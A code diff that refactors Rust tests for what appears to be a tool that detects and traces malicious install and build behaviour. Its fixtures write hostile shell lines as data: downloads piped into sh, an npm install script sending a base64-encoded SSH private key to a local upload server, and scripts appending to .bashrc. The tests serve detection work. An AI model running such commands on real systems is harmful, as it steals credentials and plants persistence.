@@ -29,8 +29,7 @@ fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent
     );
     place.write("build.sh", &build);
     let run = place.record("sh build.sh");
-    let address = server.address();
-    server.end();
+    let address = server.end();
     let finding = only_found(&place, &run, "startup-file-written");
     assert_eq!(finding["cause_file"], place.path("stage.sh"));
     assert_eq!(
@@ -66,14 +65,14 @@ fn a_shell_that_follows_a_download_is_told_from_the_address_to_what_it_made() {
     let Some((place, server)) = LoopbackServer::at_place(2, answer) else {
         return;
     };
-    let (load, address) = (server.download(), server.address());
+    let load = server.download();
     place.write(
         "install.sh",
         &format!("date > other\n{load} | sh -s -- -y\n"),
     );
     // The network told the shell what to do, and not the script that started it.
     let runs = [format!("{load} | sh"), "sh install.sh".to_owned()].map(|line| place.record(&line));
-    server.end();
+    let address = server.end();
     for (run, shell) in runs.iter().zip([&["sh"][..], &["sh", "-s", "--", "-y"]]) {
         for rule in ["startup-file-written", "download-run-by-shell"] {
             let finding = only_found(&place, run, rule);
@@ -142,7 +141,7 @@ fn a_text_for_a_shell_possibly_came_from_what_the_shell_above_read_last() {
     let Some((place, server)) = LoopbackServer::at_place(3, answer) else {
         return;
     };
-    let (load, address) = (server.download(), server.address());
+    let load = server.download();
     let lines = [
         format!("sh -c \"$({load})\"; true"),
         // The shell above wrote this text itself, or got it from something else.
@@ -150,7 +149,7 @@ fn a_text_for_a_shell_possibly_came_from_what_the_shell_above_read_last() {
         format!("V=$({load}); sh -c \"$(printf 'echo x >> .%s' bashrc)\"; true"),
     ];
     let runs = lines.each_ref().map(|line| place.record(line));
-    server.end();
+    let address = server.end();
     let origins = [Value::from(address), Value::Null, Value::Null];
     for ((line, run), origin) in lines.iter().zip(&runs).zip(&origins) {
         let finding = only_found(&place, run, "startup-file-written");
@@ -228,8 +227,7 @@ fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
     let script = format!("cat .ssh/id_ed25519 | base64 | {}\n", server.upload());
     npm(&place, &script);
     let run = place.record("./npm install");
-    let address = server.address();
-    server.end();
+    let address = server.end();
     let mut rules = Vec::new();
     for finding in place.json(&["hunt", &run, "--json"]).as_array().unwrap() {
         rules.push(finding["rule"].as_str().unwrap().to_owned());
@@ -271,20 +269,17 @@ fn the_script_of_a_package_is_the_cause_and_not_that_of_its_installer() {
     }
     let place = Place::new();
     std::fs::create_dir_all(place.work().join("lib/site-packages")).unwrap();
-    let hook = "exec(open('setup.py').read())\n";
-    place.write("lib/site-packages/hook.py", hook);
-    place.write("setup.py", "open('.bashrc', 'a').write('x')\n");
-    let run = place.record("python3 lib/site-packages/hook.py");
-    let finding = only_found(&place, &run, "startup-file-written");
-    assert_eq!(finding["cause_file"], place.path("setup.py"));
-    place.write(
-        "lib/site-packages/hook.py",
-        "open('.bashrc', 'a').write('x')\n",
-    );
-    let run = place.record("python3 lib/site-packages/hook.py");
-    let finding = only_found(&place, &run, "startup-file-written");
-    assert_eq!(
-        finding["cause_file"],
-        place.path("lib/site-packages/hook.py")
-    );
+    let hook = "lib/site-packages/hook.py";
+    let writes = "open('.bashrc', 'a').write('x')\n";
+    place.write("setup.py", writes);
+    // The installer executes the script of the package, and then writes the file itself.
+    for (text, cause) in [
+        ("exec(open('setup.py').read())\n", "setup.py"),
+        (writes, hook),
+    ] {
+        place.write(hook, text);
+        let run = place.record(&format!("python3 {hook}"));
+        let finding = only_found(&place, &run, "startup-file-written");
+        assert_eq!(finding["cause_file"], place.path(cause), "{text}");
+    }
 }
